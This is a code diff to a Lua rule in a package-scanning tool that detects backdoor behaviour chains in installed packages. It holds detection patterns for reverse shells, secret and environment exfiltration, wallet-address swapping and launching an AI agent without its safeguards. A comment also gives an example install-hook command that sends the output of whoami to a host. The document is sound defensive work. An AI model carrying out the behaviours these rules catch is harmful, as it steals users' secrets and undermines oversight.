@@ -1,82 +1,41 @@
+local NAMES = require "lib.chain_names"
+local capabilities = require "lib.capabilities"
 local chains = require "lib.chains"
+local commands = require "lib.commands"
+local lists = require "probity.lists"
 local packages = require "lib.packages"
 local reach = require "lib.reach"
 
 local OWN = "integrity.behaviour-chain"
 
--- What a chain is called, what it weighs by itself and in code that runs at installation, and which words of a package's own description
--- say that this is its job. strong: nothing ordinary does it; several: ordinary where it is alone; weak: only at installation.
-local NAMES = {
-  ["invisible"] = { "holds long runs of characters that nobody sees", "strong", "strong" },
-  ["fetched-run"] = { "runs what it fetched, or text under a constructed name, as code", "strong", "strong", { "loader", "bundler", "module", "interpreter" } },
-  ["download-command"] = { "has a command line that downloads and runs something", "strong", "strong", { "installer", "deploy", "provisioning", "pentest" } },
-  ["download-text"] = { "holds a command line that downloads and runs something", "weak", "strong" },
-  ["remote-commands"] = { "runs what a connection says as commands", "strong", "strong", { "terminal", "ssh", "telnet", "shell", "remote", "pentest", "exploit", "bot", "ftp", "agent" } },
-  ["memory-code"] = { "puts what it fetched or decoded into memory as machine code", "strong", "strong", { "debugger", "exploit", "pentest", "injection", "ffi", "game" } },
-  ["hook-and-spawn"] = { "hooks what is imported, and starts programs", "several", "strong", { "tracing", "apm", "test", "testing", "instrumentation", "mock", "loader" } },
-  ["destroys-home"] = { "removes files below the user's home", "weak", "strong" },
-  ["asset-run"] = { "reads a picture, a font or a sound, and runs text as code", "strong", "strong" },
-  ["key-mailed"] = { "holds secret keys, and sends mail", "strong", "strong" },
-  ["package-source"] = { "installs packages from a place of its own", "weak", "strong" },
-  ["wallet-prompts"] = { "asks a wallet to pay, and fetches what", "several", "strong", { "wallet", "wallets", "ethereum", "web3", "crypto", "blockchain", "dapp", "solana", "evm", "nft", "defi", "token", "metamask" } },
-  ["download-run-unseen"] = { "downloads, and starts that unseen", "strong", "strong", { "installer", "updater", "update", "driver", "browser", "download", "downloader", "selenium" } },
-  ["reverse-shell"] = { "ties a shell to a network connection", "strong", "strong", { "terminal", "ssh", "telnet", "shell", "pentest", "exploit" } },
-  ["fetch-near-exec"] = { "fetches, and runs text as code beside it", "strong", "strong", { "loader", "module", "test", "testing", "interpreter", "shell", "notebook" } },
-  ["fetch-near-eval"] = { "fetches, and runs text as code beside it", "several", "strong", { "loader", "bundler", "module", "test", "testing" } },
-  ["fetch-from-odd-place-near-eval"] = { "fetches from an unusual place, and runs text as code beside it", "strong", "strong" },
-  ["decodes-long"] = { "runs a long encoded text as code", "strong", "strong" },
-  ["decrypts-and-runs"] = { "decrypts, and runs text as code beside it", "several", "strong" },
-  ["module-compiled"] = { "makes a module of text that it decrypts", "strong", "strong" },
-  ["start-line"] = { "does more than add a path, each time that Python starts", "strong", "strong" },
-  ["secrets-and-identity-sent"] = { "names places of secrets, tells who the machine is, and sends", "strong", "strong", { "secrets", "scanner", "forensic", "forensics", "backup", "security", "pentest", "audit", "inventory" } },
-  ["address-swap"] = { "puts itself before the browser's network calls, and holds addresses of wallets", "strong", "strong" },
-  ["wallet-hook"] = { "puts itself before the network calls of a page and of its wallet", "several", "strong", { "wallet", "ethereum", "web3", "dapp" } },
-  ["clipboard-swap"] = { "uses the clipboard, and knows how addresses of wallets look", "strong", "strong", { "clipboard", "wallet" } },
-  ["many-secrets-sent"] = { "names places of secrets of several kinds, and sends", "strong", "strong", { "secrets", "scanner", "forensic", "forensics", "backup", "security", "pentest", "sandbox" } },
-  ["secrets-carried-off"] = { "names places of secrets, and a service or address to send to", "strong", "strong", { "secrets", "scanner", "security", "pentest", "forensic", "forensics" } },
-  ["secrets-sent"] = { "names places of secrets, and uses the network", "weak", "strong" },
-  ["secret-and-network"] = { "names a place of secrets, and uses the network", "weak", "several" },
-  ["scanner-and-secrets"] = { "starts a scanner for secrets, and names their places", "strong", "strong", { "secrets", "scanner", "security" } },
-  ["agent-flags"] = { "starts an assistant without its safeguards, and names places of secrets", "strong", "strong", { "agent", "agents", "ai", "llm", "claude" } },
-  ["environment-carried-off"] = { "sends the whole environment to a service or address that only receives", "strong", "strong" },
-  ["environment-sent"] = { "takes the whole environment, and sends beside it", "several", "strong" },
-  ["identity-carried-off"] = { "tells who and where the machine is to an address or a service that only receives", "strong", "strong" },
-  ["identity-to-carrier"] = { "takes who and where the machine is, and names a service that carries messages", "several", "strong", { "telegram", "discord", "slack", "bot", "notification", "notifications", "monitoring" } },
-  ["identity-sent"] = { "takes who and where the machine is, and uses the network", "weak", "several" },
-  ["screen-carried-off"] = { "takes pictures of the screen or keys, and names a place to send them to", "strong", "strong" },
-  ["secret-header"] = { "sends a request whose headers alone carry something, and holds secret keys", "strong", "strong" },
-  ["worm"] = { "publishes packages, and changes repositories and their workflows", "strong", "strong", { "release", "publish", "monorepo", "publishing", "npm", "ci" } },
-  ["miner"] = { "speaks to a mining pool, or starts a miner", "strong", "strong", { "mining", "miner", "monero", "security", "scanner" } },
-  ["wipe"] = { "has commands that delete or stop the machine", "several", "strong", { "test", "shutdown", "power" } },
-  ["persists"] = { "writes where programs start by themselves", "weak", "strong" },
-  ["code-argument"] = { "starts an interpreter with code on its command line, hidden or decoded", "several", "strong" },
-  ["download-hidden-run"] = { "downloads from a hidden or unusual place, and starts that unseen", "strong", "strong" },
-  ["download-run-hiding"] = { "downloads to a temporary place, and starts that unseen", "several", "strong", { "installer", "updater", "update", "electron" } },
-  ["download-run"] = { "downloads, writes, and starts programs", "weak", "weak" },
-  ["hidden-process"] = { "starts a process that nobody sees and that stays", "weak", "strong" },
-  ["hidden-place"] = { "decodes an address or a command, and uses the network or runs code", "strong", "strong" },
-  ["carrier-and-run"] = { "names a service that carries messages or texts, and runs code or programs beside it", "several", "strong" },
-  ["decodes-and-runs-hidden"] = { "decodes a long text and runs it as code", "strong", "strong", { "obfuscator", "packer" } },
-  ["hidden-name"] = { "decodes the name of what it calls", "strong", "strong", { "obfuscator" } },
-  ["decodes-and-runs"] = { "decodes a text and runs it as code", "several", "strong", { "bundler", "obfuscator", "packer", "webpack" } },
-  ["decoded-command"] = { "decodes a command", "strong", "strong" },
-  ["far-right"] = { "hides code behind a hundred blanks", "strong", "strong" },
-}
-
 -- Names that nobody has a reason to encode.
 local HIDDEN = { ["child_process"] = true, ["execSync"] = true, ["readFileSync"] = true, ["subprocess"] = true, ["requests"] = true,
   ["builtins"] = true, ["urllib.request"] = true, ["eval"] = true, ["writeFileSync"] = true, ["homedir"] = false }
 
-local LONG = 300 -- bytes of a literal that is no name and no table any more
+local LONG = 300 -- bytes of a literal that is no name and no table any more,
+local OWN_FILE = 65536 -- larger ones are made of many files
+local MOSTLY_TEXT = 500 -- in a file of which literals are such a share
 
 -- What the tokens say, whatever the names in the file look like.
 local function by_facts(o, list)
   local code = o.facts.code
   if code.measures.decode_eval > 0 then
-    list[#list + 1] = { id = code.measures.longest_string >= LONG and "decodes-and-runs-hidden" or "decodes-and-runs" }
+    local m = code.measures
+    local hides = (m.longest_string >= LONG and (m.string_share >= MOSTLY_TEXT or m.long_lines >= 200))
+      or (o.kind ~= "python" and o.size <= OWN_FILE)
+    list[#list + 1] = { id = hides and "decodes-and-runs-hidden" or "decodes-and-runs" }
   end
   if code.measures.far_right >= 30 then
     list[#list + 1] = { id = "far-right" }
+  end
+  for _, call in ipairs(code.calls or {}) do
+    local spawns = call.name:find("^child_process%.") or call.name:find("^subprocess%.") or call.name:find("^os%.")
+    for _, word in ipairs(spawns and call.args or {}) do
+      if type(word) == "string" and (word:find("rundll32", 1, true) or word:find("regsvr32", 1, true)) then
+        list[#list + 1] = { id = "system-loader", at = call.at }
+        break
+      end
+    end
   end
   for _, s in ipairs(code.strings or {}) do
     if s.decoded and s.is == "command" then
@@ -116,15 +75,15 @@ end
 local function judge(product, found, o, list, how)
   local several = 0
   for _, c in ipairs(list) do
-    several = several + (NAMES[c.id][2] == "several" and not declared(product, o, NAMES[c.id][4]) and 1 or 0)
+    several = several + (NAMES[c.id].alone == "several" and not declared(product, o, NAMES[c.id].expected) and 1 or 0)
   end
   for _, c in ipairs(list) do
     local name = NAMES[c.id]
-    local strength = name[how and 3 or 2]
-    local word = not how and declared(product, o, name[4])
-    local at = { key = c.id .. ":" .. o.sha256:sub(1, 16), object = o, at = c.at, packages.place(o.path), name[1] }
+    local strength = how and name.installed or name.alone
+    local word = not how and declared(product, o, name.expected)
+    local at = { key = c.id .. ":" .. o.sha256:sub(1, 16), object = o, at = c.at, packages.place(o.path), name.says }
     if how then
-      at[1], at[2], at[3] = how, packages.place(o.path), name[1]
+      at[1], at[2], at[3] = how, packages.place(o.path), name.says
       if strength ~= "weak" then
         found[strength == "strong" and "installed" or "installing"](at)
       end
@@ -139,10 +98,47 @@ local function judge(product, found, o, list, how)
   end
 end
 
+-- What a command line of a package tells about the machine, and words by which it does so.
+local TELLS = { "whoami", "hostname", "$USER", "%USERNAME%", "$(id)", "`id`", "$(pwd)", "`pwd`", "userInfo(", "os.environ",
+  "process.env)", "/etc/passwd" }
+local SENDS = { "http://", "https://", "nslookup ", "ping " }
+
+local function reaches_out(command)
+  for _, word in ipairs(SENDS) do
+    if command:find(word, 1, true) then
+      return true
+    end
+  end
+  return commands.network(command) ~= nil
+end
+
+-- Commands of install hooks that are no file: curl https://host/?u=$(whoami), or to a service that only receives.
+local function judge_commands(product, found)
+  for package, script, o in packages.scripts(product) do
+    local command = packages.at_install(script) and script.command
+    local sends = command and reaches_out(command)
+    local why
+    for _, word in ipairs(sends and TELLS or {}) do
+      if command:find(word, 1, true) then
+        why = NAMES["telling-command"].says
+      end
+    end
+    for place in (sends and command or ""):gmatch("[%w-]+%.[%w.-]+[%w/._-]*") do
+      local row = lists.find("exfiltration", place:lower())
+      if row and row.kind ~= "address" then
+        why = why or NAMES["carrier-used"].says
+      end
+    end
+    if why then
+      found.installed { key = packages.script_key(script), object = o, excerpt = command, script.name, packages.title(package), why }
+    end
+  end
+end
+
 ---@type probity.Check
 return {
   title       = "What no ordinary package does: chains of behaviour",
-  why         = "Reading secrets is ordinary, and so is sending; code that does one for the other has no place in a package that others install.",
+  why         = "Reading secrets is ordinary, and so is sending; code that does one for the other has no place in a package.",
   catalogue   = "I-02",
   claim       = "backdoor",
   severity    = "critical",
@@ -191,18 +187,21 @@ return {
   },
   maps        = { "paris:P5", "paris:P6", "cwe:506", "cwe:912", "attack:T1195.002", "attack:T1059", "req:R3" },
   samples     = {
-    hit = { "eslintscope-js", "depconf-js", "solana-js", "chalkplain-js", "farright-js", "persist-js", "fetchexec-py", "torch-py", "litellm-py",
-      "clip-py" },
+    hit = {
+      "eslintscope-js", "depconf-js", "solana-js", "chalkplain-js", "farright-js", "persist-js", "fetchexec-py", "torch-py",
+      "litellm-py", "clip-py",
+    },
     clean = { "ordinary-client", "tool-with-home.py" },
   },
 
   object = function(object, found)
     for _, c in ipairs(chains.of(object)) do
-      found.seen { key = c.id .. ":" .. object.sha256:sub(1, 16), at = c.at, NAMES[c.id][1] }
+      found.seen { key = c.id .. ":" .. object.sha256:sub(1, 16), at = c.at, NAMES[c.id].says }
     end
   end,
 
   product = function(product, found)
+    judge_commands(product, found)
     local installed = {}
     for o, how in reach.installed(product) do
       installed[table.concat(o.path, "\0")] = how
@@ -211,6 +210,14 @@ return {
       local list = of_object(o)
       if #list > 0 then
         judge(product, found, o, list, installed[table.concat(o.path, "\0")])
+      end
+    end
+    for o, how, from in reach.installed(product) do
+      if from and o.kind ~= "javascript" and o.kind ~= "typescript" and o.kind ~= "python" then
+        local entry = capabilities.find(o.facts, "net-connect")
+        if entry then
+          judge(product, found, o, { { id = "started-script", at = entry.at } }, how)
+        end
       end
     end
     for o in product:objects { glob = "*.pth" } do
